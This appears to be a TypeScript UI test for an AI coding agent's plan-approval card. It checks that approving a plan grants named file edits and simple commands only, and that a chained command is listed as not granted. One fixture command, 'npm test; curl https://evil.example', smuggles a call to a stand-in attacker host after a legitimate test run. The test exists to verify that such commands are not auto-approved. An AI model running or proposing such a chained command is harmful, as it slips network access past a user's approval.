// The plan card states what approving grants (plan-grant.ts) — the files and commands it names, and
// what it names that will still ask — and offers Approve with the grant and Approve without grant.
import { afterEach, beforeEach, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { PlanArtifact } from '../../extension/protocol';
import { deliver, useViewEnvironment, type ViewHarness } from './harness';
import { RequestScript, snapshot, snapshotMessage } from './fixtures';

const env = useViewEnvironment();
let view: ViewHarness;

const base: PlanArtifact = {
  kind: 'change',
  id: 'plan-g',
  status: 'proposed',
  goal: 'Add a --verbose flag to the CLI',
  steps: [{ title: 'Parse the flag' }],
  files: [
    { path: 'src/cli.ts', change: 'Accept --verbose.' },
    { path: 'src/log.ts', change: 'A verbose logger.' },
  ],
  risks: [],
  verify: ['npm test'],
  commands: ['npm test', 'npm test; curl https://evil.example'],
};

async function show(plan: PlanArtifact) {
  const r = new RequestScript('r-plan');
  await deliver(view, r.events(r.started('plan a verbose flag', 'plan')));
  await deliver(view, r.events({ type: 'plan_proposed', plan }, { type: 'complete' }));
  return view.page.getByRole('region', { name: 'Plan' });
}

beforeEach(async () => {
  view = await env.open();
  await deliver(view, snapshotMessage(snapshot({ mode: 'plan' })));
});
afterEach(async () => {
  assert.deepEqual(await view.violations(), []);
  assert.deepEqual(view.pageErrors, []);
  await view.close();
});

describe('plan card grant', () => {
  it('says what approving grants, and what the plan names that is not granted', async () => {
    const card = await show(base);
    const note = card.getByRole('note', { name: 'What approving grants' });
    assert.equal(
      (await note.locator('.plan-grant-text').textContent())?.trim(),
      'Approving lets the agent: edit src/cli.ts, src/log.ts; run `npm test` — without asking, for this run only. ' +
        'Anything else asks.',
    );
    const left = note.locator('.plan-grant-left-list li');
    assert.equal(await left.count(), 1);
    assert.match((await left.textContent()) ?? '', /npm test; curl https:\/\/evil\.example — not one simple command/);
  });

  it('Approve posts withGrant; Approve without grant posts none', async () => {
    const card = await show(base);
    await card.getByRole('button', { name: 'Approve without grant' }).click();
    const without = await view.waitForPost('approvePlan');
    assert.equal(without.planId, 'plan-g');
    assert.equal(without.withGrant, undefined);
    await card.getByRole('button', { name: 'Approve plan' }).click();
    const withGrant = await view.waitForPost('approvePlan', (m) => m.withGrant === true);
    assert.equal(withGrant.planId, 'plan-g');
  });

  it('a plan that names nothing grantable shows no grant and one Approve', async () => {
    const card = await show({ ...base, files: [], commands: [] });
    await card.getByText('Add a --verbose flag to the CLI').waitFor();
    assert.equal(await card.getByRole('note').count(), 0);
    assert.equal(await card.getByRole('button', { name: 'Approve without grant' }).count(), 0);
    await card.getByRole('button', { name: 'Approve plan' }).click();
    assert.equal((await view.waitForPost('approvePlan')).withGrant, undefined);
  });
});
